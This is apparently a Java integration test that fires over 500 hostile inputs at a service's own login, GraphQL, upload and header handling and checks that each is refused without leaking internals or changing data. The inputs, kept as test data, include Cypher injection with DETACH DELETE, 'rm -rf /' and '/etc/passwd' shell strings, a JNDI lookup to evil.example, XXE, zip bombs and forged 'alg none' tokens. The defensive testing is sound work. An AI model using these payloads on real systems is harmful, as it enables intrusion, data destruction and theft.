package nl.kleurplaat.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.IntFunction;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import nl.kleurplaat.OwnServiceTest;
import nl.kleurplaat.api.Role;
import nl.kleurplaat.keys.ApiKeys;
import nl.kleurplaat.keys.TestKeys;
import org.awaitility.Awaitility;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.neo4j.driver.Driver;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Over 500 inputs of those who mean harm, where people log in: each is refused, or finds nothing; no answer tells how the program
 * is made, and afterwards everything is as it was.
 */
@OwnServiceTest(properties = {"kleurplaat.login.keys=true", "kleurplaat.limits.points=100000000"})
class HostileInputsIT {

    private static final int AT_LEAST = 500;
    private static final Duration REST = Duration.ofSeconds(60);

    /** By how many threads a service at rest differs from one look to the next. */
    private static final int BREATH = 6;

    /** What is kept of answers and documents may stay. */
    private static final long CACHES = 200L << 20;

    private static final JsonMapper JSON = JsonMapper.shared();

    /** How the program is made: classes, stacks, queries of the database, places on the disk. */
    private static final Pattern INSIDE = Pattern.compile("\\bat"
        + " [a-z]+\\.[\\w.]+\\(|nl\\.kleurplaat|org\\.(?:neo4j|springframework|apache)|\\bjava\\.(?:lang|util|io)|graphql\\.\\w+\\.|Exception|StackTrace|MATCH"
        + " \\(|RETURN |UNWIND |Neo\\.ClientError|/tmp/|/root/");

    /** Texts that mean something elsewhere: in Cypher, Lucene, a shell, HTML, a template, a path, a log. */
    private static final List<String> TEXTS = List.of(
            "' OR 1=1 //",
            "'}) MATCH (n) DETACH DELETE n //",
            "\" RETURN 1 UNION MATCH (n) RETURN n.name //",
            "`}) SET n.name = 'x' //",
            "\\' OR true RETURN *",
            "*:* OR qxz:*",
            "name:[a TO z]",
            "/(qxz+)+$/",
            "(((((((((((((((",
            "qxz AND NOT",
            "~~~~^99999999",
            "{!func}",
            "$(reboot)",
            "`reboot`",
            "; rm -rf /",
            "| cat /etc/passwd",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "${jndi:ldap://evil.example/a}",
            "#{T(java.lang.Runtime).getRuntime()}",
            "${7*7}{{7*7}}<%= 7*7 %>",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd\u0000.csv",
            "%2e%2e%2f%2e%2e%2f",
            "x\r\nSet-Cookie: a=b",
            "x\n2026-01-01 ERROR faked",
            "\u001b[2J\u001b[31m",
            "\u202e\u2066evil",
            "\ud800",
            "\u0000",
            "=cmd|'/c calc'!A1",
            "+SUM(1+1)*cmd|x",
            "@import url(http://evil.example)",
            "ﬀ".repeat(400),
            "́".repeat(900),
            "A".repeat(5_000),
            "' ".repeat(900),
            "::1/%00/%ff");

    private static final List<String> VALUES = List.of(
            "NAME; DROP",
            "name",
            "\"NAME\"",
            "NAME}",
            "n.name",
            "1",
            "null null",
            "__typename",
            "NAME NAME",
            "[NAME, KIND]");

    @LocalServerPort
    int port;

    @Autowired
    ApiKeys keys;

    @Autowired
    Driver driver;

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping paths;

    @Value("${kleurplaat.home}")
    Path home;

    private String viewer = "";
    private String editor = "";
    private String admin = "";

    /** What was answered. */
    private record Answer(int status, String head, String body) {

        /** But for what was sent, which an answer may repeat. */
        Answer without(String text) {
            String written = JSON.writeValueAsString(text);
            return new Answer(status, head, body.replace(written.substring(1, written.length() - 1), ""));
        }

        boolean isRefused() {
            return status >= 400 || body.contains("\"errors\":[{");
        }
    }

    /** Asks, and gives what is wrong with the answer; null where nothing is. */
    private interface Input {
        @Nullable
        String wrong() throws IOException;
    }

    private final Map<String, Input> inputs = new LinkedHashMap<>();

    @BeforeEach
    void logIn() {
        viewer = TestKeys.make(keys, "Kijker", Role.VIEWER);
        editor = TestKeys.make(keys, "Redactie", Role.EDITOR);
        admin = TestKeys.make(keys, "Beheer", Role.ADMIN);
    }

    @Test
    void nothingIsAnsweredAsIfItWereGoodAndAllIsAsItWas() throws IOException {
        texts();
        words();
        cursors();
        documents();
        logins();
        doors();
        files();
        headers();
        assertThat(inputs).hasSizeGreaterThanOrEqualTo(AT_LEAST);
        Map<String, Object> before = content();
        long heap = heap();
        int threads = threads();

        List<String> wrong = new ArrayList<>();
        for (var input : inputs.entrySet()) {
            String it = input.getValue().wrong();
            if (it != null) {
                wrong.add(input.getKey() + " → " + it);
            }
        }

        System.out.printf("%d hostile inputs, %d of them answered wrongly%n", inputs.size(), wrong.size());
        assertThat(wrong).isEmpty();
        assertThat(content()).isEqualTo(before);
        Awaitility.await()
                .atMost(REST)
                .untilAsserted(() -> assertThat(threads()).isLessThanOrEqualTo(threads + BREATH));
        assertThat(heap()).isLessThan(heap + CACHES);
    }

    /** As values of variables: what they mean elsewhere they do not mean here, so nothing is found. */
    private void texts() {
        Map<String, String> questions = Map.of(
                "search", "query($t: String!) { search(text: $t) { __typename } }",
                "text", "query($t: String!) { organisations(first: 5, filter: {text: $t}) { totalCount } }",
                "kind", "query($t: String!) { organisations(first: 5, filter: {kinds: [$t]}) { totalCount } }",
                "key", "query($t: String!) { organisation(key: $t) { name } }",
                "node", "query($t: ID!) { node(id: $t) { id } }",
                "lens", "query($t: String!) { network(lens: {kinds: [$t]}) { summary { actors } } }",
                "actor", "query($t: String!) { network { actor(key: $t) { name } } }");
        questions.forEach((name, question) -> {
            for (int i = 0; i < TEXTS.size(); i++) {
                String text = TEXTS.get(i);
                inputs.put(
                        name + " " + i,
                        () -> wrong(
                                ask(viewer, question, Map.of("t", text)).without(text), HostileInputsIT::findsNothing));
            }
        });
    }

    private static boolean findsNothing(JsonNode data) {
        return data.toString()
                .matches("\\{\"\\w+\":(?:\\[]|null|\\{\"(?:totalCount\":0|summary\":\\{\"actors\":0}|actor\":null)})}");
    }

    /** Where one of a few words belongs. */
    private void words() {
        for (String value : VALUES) {
            refused("order " + value, "{ organisations(first: 5, orderBy: " + value + ") { totalCount } }");
            refused("direction " + value, "{ organisations(first: 5, direction: " + value + ") { totalCount } }");
            refused("filter " + value, "{ organisations(first: 5, filter: {" + value + ": 1}) { totalCount } }");
            refused("first " + value, "{ organisations(first: " + value.replace("1", "101") + ") { totalCount } }");
        }
    }

    private void cursors() {
        List<String> cursors = new ArrayList<>(TEXTS.subList(0, 20));
        IntStream.range(0, 10)
                .mapToObj(i ->
                        Base64.getEncoder().encodeToString(("o:" + i + ":' OR 1=1").getBytes(StandardCharsets.UTF_8)))
                .forEach(cursors::add);
        for (String cursor : cursors) {
            String question = "query($t: String!) { organisations(first: 5, after: $t) { edges { node { key } } } }";
            inputs.put(
                    "cursor " + cursor,
                    () -> refusal(ask(viewer, question, Map.of("t", cursor)).without(cursor)));
        }
    }

    private static String many(int count, IntFunction<String> one) {
        return IntStream.range(0, count).mapToObj(one).collect(Collectors.joining());
    }

    /** Too deep, too wide, too often, too large, or no document at all. */
    private void documents() {
        for (int deep : new int[] {13, 20, 100, 2_000}) {
            refused(
                    "deep " + deep,
                    "{ network { actor(key: \"a\") "
                            + "{ subject { ... on Organisation { collaborations(first: 1) { edges { node".repeat(deep)
                            + " { key } " + "} } } } }".repeat(deep) + " } }");
            refused(
                    "lists " + deep,
                    "{ network(lens: {domains: " + "[".repeat(deep) + "]".repeat(deep) + "}) { asOf } }");
        }
        for (int wide : new int[] {601, 2_000, 10_000}) {
            refused("wide " + wide, "{ organisations(first: 1) { totalCount " + "totalCount ".repeat(wide) + "} }");
            refused("aliases " + wide, "{ " + many(wide, i -> "a" + i + ": domains { name } ") + "}");
            refused("arguments " + wide, "query(" + many(wide, i -> "$a" + i + ": Int ") + ") { domains { name } }");
            refused("directives " + wide, "{ domains " + "@include(if: true) ".repeat(wide) + "{ name } }");
        }
        for (int doubled : new int[] {12, 40, 200}) {
            refused(
                    "fragments " + doubled,
                    "{ ...f0 } "
                            + many(doubled, i -> "fragment f%d on Query { ...f%d ...f%d } ".formatted(i, i + 1, i + 1))
                            + "fragment f" + doubled
                            + " on Query { organisations(first: 100) { edges { node { collaborations(first: 100) {"
                            + " edges { node { key } } } } } } }");
            refused(
                    "in a circle " + doubled,
                    "{ ...f0 } "
                            + many(doubled, i -> "fragment f%d on Query { ...f%d } ".formatted(i, (i + 1) % doubled)));
        }
        for (String document : List.of(
                "",
                " ",
                "{",
                "}",
                "query",
                "{ }",
                "null",
                "{ domains { name } ",
                "{ domains { name } } }",
                "\u0000",
                "{ domains(name: ) { name } }",
                "subscription { a b }",
                "mutation { nothing }",
                "{ __schema }",
                "query A { domains { name } } query A { domains { name } }",
                "{ domains { __typename(x: 1) } }",
                "#".repeat(300_000),
                "\"".repeat(1_000),
                "{ d: " + "x".repeat(200_000) + " }",
                "mutation { removeSample { removed } }",
                "mutation { deleteOrganisation(key: \"gem-rietmeer\", version: 1) { key } }",
                "mutation { createApiKey(input: {name: \"x\", role: ADMIN}) { secret } }",
                "{ apiKeys { name } }",
                "{ audit(first: 5) { edges { node { by } } } }",
                "{ personErasure(key: \"x\") { person } }")) {
            refused("document " + inputs.size(), document);
        }
        for (String body : List.of(
                "",
                "[]",
                "1",
                "null",
                "\"x\"",
                "{\"query\":1}",
                "{\"query\":null}",
                "{\"query\":[]}",
                "{\"query\":{}}",
                "{\"query\":\"{ domains { name } }\",\"variables\":1}",
                "{\"query\":\"{ domains { name } }\",\"variables\":[]}",
                "{\"query\":\"{ domains { name } }\",\"operationName\":{}}",
                "{" + "\"a\":{".repeat(5_000),
                "[".repeat(100_000),
                "{\"query\":\"" + "\\u0000".repeat(50) + "\"}",
                "{\"query\":\"x\",\"query\":\"y\"}",
                "\ufeff{}",
                "{\"query\":\"" + "a".repeat(300 << 10) + "\"}",
                "a=b",
                "<x/>")) {
            inputs.put(
                    "body " + inputs.size(),
                    () -> refusal(send("POST", "/graphql", viewer, "Content-Type: application/json", bytes(body))));
        }
        for (String type : List.of(
                "text/plain",
                "application/xml",
                "multipart/form-data",
                "application/x-www-form-urlencoded",
                "*/*",
                "x")) {
            inputs.put(
                    "type " + type,
                    () -> refusal(send(
                            "POST",
                            "/graphql",
                            viewer,
                            "Content-Type: " + type,
                            bytes("{\"query\":\"{ domains { name } }\"}"))));
        }
    }

    private void logins() {
        String none = Base64.getUrlEncoder().withoutPadding().encodeToString(bytes("{\"alg\":\"none\"}"));
        String claims = Base64.getUrlEncoder()
                .withoutPadding()
                .encodeToString(bytes("{\"sub\":\"admin\",\"roles\":[\"ADMIN\"]}"));
        List<String> shown = new ArrayList<>(List.of(
                "",
                "Bearer",
                "Bearer ",
                "Bearer null",
                "Bearer kp_",
                "Bearer kp_" + "A".repeat(43),
                "Bearer kp_" + "A".repeat(4_000),
                "Bearer " + none + "." + claims + ".",
                "Bearer " + none + "." + claims + ".x",
                "Bearer x.y.z",
                "Basic YWRtaW46YWRtaW4=",
                "Digest username=\"admin\"",
                "Negotiate abc",
                "bearer  kp_x",
                "Bearer kp_x, Bearer kp_y",
                "Bearer ../../etc/passwd",
                "Bearer ' OR 1=1 //",
                "Bearer ${jndi:ldap://evil.example/a}"));
        shown.add("Bearer " + viewer.substring(0, viewer.length() - 1));
        shown.add("Bearer " + viewer + "A");
        shown.add("Bearer " + viewer.toUpperCase(Locale.ROOT));
        for (String authorization : shown) {
            for (String path : List.of("/graphql", "/api/tables/stakeholders.csv", "/api/networks/export.zip")) {
                inputs.put(
                        "login " + authorization + " at " + path,
                        () -> refusal(send(
                                path.equals("/graphql") ? "POST" : "GET",
                                path,
                                null,
                                "Content-Type: application/json\r\nAuthorization: " + authorization,
                                bytes("{\"query\":\"{ domains { name } }\"}"))));
            }
        }
    }

    /** Another host, or from another page, on every path. */
    private void doors() {
        List<String> all = new ArrayList<>(List.of("/", "/graphql", "/style.css", "/no-such-path"));
        paths.getHandlerMethods()
                .keySet()
                .forEach(path -> path.getPatternValues().forEach(all::add));
        for (String path : all) {
            String address = path.replaceAll("\\{[^}]*}", "x");
            for (String host : List.of("evil.example", "127.0.0.1.evil.example")) {
                inputs.put(
                        "host " + host + " at " + path,
                        () -> refusal(raw(
                                "GET " + address + " HTTP/1.1\r\nHost: " + host + "\r\nAuthorization: Bearer " + admin,
                                new byte[0])));
            }
            inputs.put(
                    "origin at " + path,
                    () -> refusal(send("POST", address, admin, "Origin: http://evil.example", new byte[0])));
        }
    }

    private void files() throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("bom.zip", zip(Map.of("organisations.csv", new byte[200 << 20])));
        files.put("nested.zip", zip(Map.of("a.zip", zip(Map.of("organisations.csv", new byte[50 << 20])))));
        for (String name : List.of(
                "../../organisations.csv",
                "/etc/organisations.csv",
                "..\\organisations.csv",
                "a/../../b.csv",
                "organisations.csv\u0000.exe")) {
            files.put("path " + name.length() + ".zip", zip(Map.of(name, bytes("id,name\nx,Kwaad\n"))));
        }
        String evil = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
        String laughs = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"" + "lol".repeat(100) + "\">"
                + many(9, i -> "<!ENTITY b%d \"%s\">".formatted(i, (i == 0 ? "&a;" : "&b" + (i - 1) + ";").repeat(10)))
                + "]><x>&b8;</x>";
        for (String xml : List.of(evil, laughs)) {
            files.put(
                    "x" + xml.length() + ".xlsx",
                    zip(Map.of("[Content_Types].xml", bytes(xml), "xl/workbook.xml", bytes(xml))));
            files.put("x" + xml.length() + ".xml", bytes(xml));
        }
        files.put("empty.csv", new byte[0]);
        files.put("empty.zip", new byte[0]);
        files.put("noise.xlsx", bytes("PK\u0003\u0004" + "x".repeat(500)));
        files.put("noise.csv", new byte[] {0, 1, 2, 3, (byte) 0xff, (byte) 0xfe});
        files.put("program.exe", bytes("MZ" + "\u0000".repeat(100)));
        files.put("<script>.csv", bytes("id,name\n,\n"));
        files.put("wrong.json", bytes("{".repeat(20_000)));
        files.forEach((name, file) -> inputs.put("file " + name, () -> refusal(upload(name, file))));
    }

    /** The question is good, and what comes along has no part in it: it comes back nowhere. */
    private void headers() {
        for (String header : List.of(
                "X-Request-Id",
                "X-Forwarded-Host",
                "X-Forwarded-For",
                "User-Agent",
                "Referer",
                "Accept-Language",
                "Forwarded")) {
            for (String value : List.of(
                    "kwaad\u001b[31m",
                    "${jndi:ldap://kwaad.example/a}",
                    "kwaad<script>",
                    "kwaad' OR 1=1",
                    "kwaad" + "A".repeat(3_000))) {
                inputs.put("header " + header + " " + value, () -> {
                    Answer answer = send(
                            "POST",
                            "/graphql",
                            viewer,
                            "Content-Type: application/json\r\n" + header + ": " + value,
                            bytes("{\"query\":\"{ domains { name } }\"}"));
                    return (answer.head + answer.body).contains("kwaad") ? "comes back" : inside(answer);
                });
            }
        }
    }

    private void refused(String name, String question) {
        inputs.put(name, () -> refusal(ask(viewer, question, Map.of())));
    }

    private static @Nullable String refusal(Answer answer) {
        return answer.isRefused() ? inside(answer) : answer.status + ": " + shortened(answer.body);
    }

    private interface Nothing {
        boolean is(JsonNode data);
    }

    private static @Nullable String wrong(Answer answer, Nothing nothing) {
        return answer.isRefused() || nothing.is(JSON.readTree(answer.body).path("data"))
                ? inside(answer)
                : answer.status + ": " + shortened(answer.body);
    }

    private static @Nullable String inside(Answer answer) {
        var found = INSIDE.matcher(answer.head + answer.body);
        return found.find() ? "tells " + found.group() + " in " + shortened(answer.body) : null;
    }

    private static String shortened(String text) {
        return text.substring(0, Math.min(300, text.length()));
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] zip(Map<String, byte[]> entries) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (var entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    private Answer ask(String key, String question, Map<String, ?> variables) throws IOException {
        return send(
                "POST",
                "/graphql",
                key,
                "Content-Type: application/json",
                bytes(JSON.writeValueAsString(Map.of("query", question, "variables", variables))));
    }

    private Answer upload(String name, byte[] file) throws IOException {
        var body = new ByteArrayOutputStream();
        body.writeBytes(bytes("--grens\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name
                + "\"\r\nContent-Type: application/octet-stream\r\n\r\n"));
        body.writeBytes(file);
        body.writeBytes(bytes("\r\n--grens--\r\n"));
        return send(
                "POST",
                "/api/imports?wait=true",
                editor,
                "Content-Type: multipart/form-data; boundary=grens",
                body.toByteArray());
    }

    private Answer send(String method, String path, @Nullable String key, String headers, byte[] body)
            throws IOException {
        return raw(
                method + " " + path + " HTTP/1.1\r\nHost: 127.0.0.1:" + port + "\r\n" + headers
                        + (key == null ? "" : "\r\nAuthorization: Bearer " + key),
                body);
    }

    /** On a connection of its own, so that nothing on the way makes it better than it is. */
    private Answer raw(String head, byte[] body) throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
            socket.setSoTimeout((int) REST.toMillis());
            var out = new ByteArrayOutputStream();
            out.writeBytes(bytes(head + "\r\nContent-Length: " + body.length + "\r\nConnection: close\r\n\r\n"));
            out.writeBytes(body);
            try {
                socket.getOutputStream().write(out.toByteArray());
                socket.getOutputStream().flush();
            } catch (IOException refusedBeforeTheEnd) {
                // the answer is there all the same
            }
            String all = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            int end = all.indexOf("\r\n\r\n");
            int status = all.startsWith("HTTP/1.1 ") ? Integer.parseInt(all.substring(9, 12)) : 400;
            return new Answer(status, end < 0 ? all : all.substring(0, end), end < 0 ? "" : all.substring(end + 4));
        }
    }

    /** All that is in the record, and its version. */
    private Map<String, Object> content() throws IOException {
        Map<String, Object> content = new TreeMap<>();
        Answer zip = send("GET", "/api/tables/organisations.csv", admin, "Accept: text/csv", new byte[0]);
        content.put("organisations", zip.body);
        try (var session = driver.session()) {
            session.run("MATCH (v:Version {id: 'network'}) RETURN v.number AS number, v.history AS history")
                    .forEachRemaining(row -> content.putAll(row.asMap()));
            session.run("""
                MATCH (n) WHERE NOT n:AuditEntry AND NOT n:AuditChain AND NOT n:Import AND NOT n:ImportSign
                RETURN labels(n)[0] AS label, count(*) AS count
                """)
                    .forEachRemaining(row -> content.put(
                            row.get("label").asString(), row.get("count").asLong()));
        }
        return content;
    }

    private static long heap() {
        var memory = ManagementFactory.getMemoryMXBean();
        memory.gc();
        return memory.getHeapMemoryUsage().getUsed();
    }

    private static int threads() {
        return ManagementFactory.getThreadMXBean().getThreadCount();
    }
}
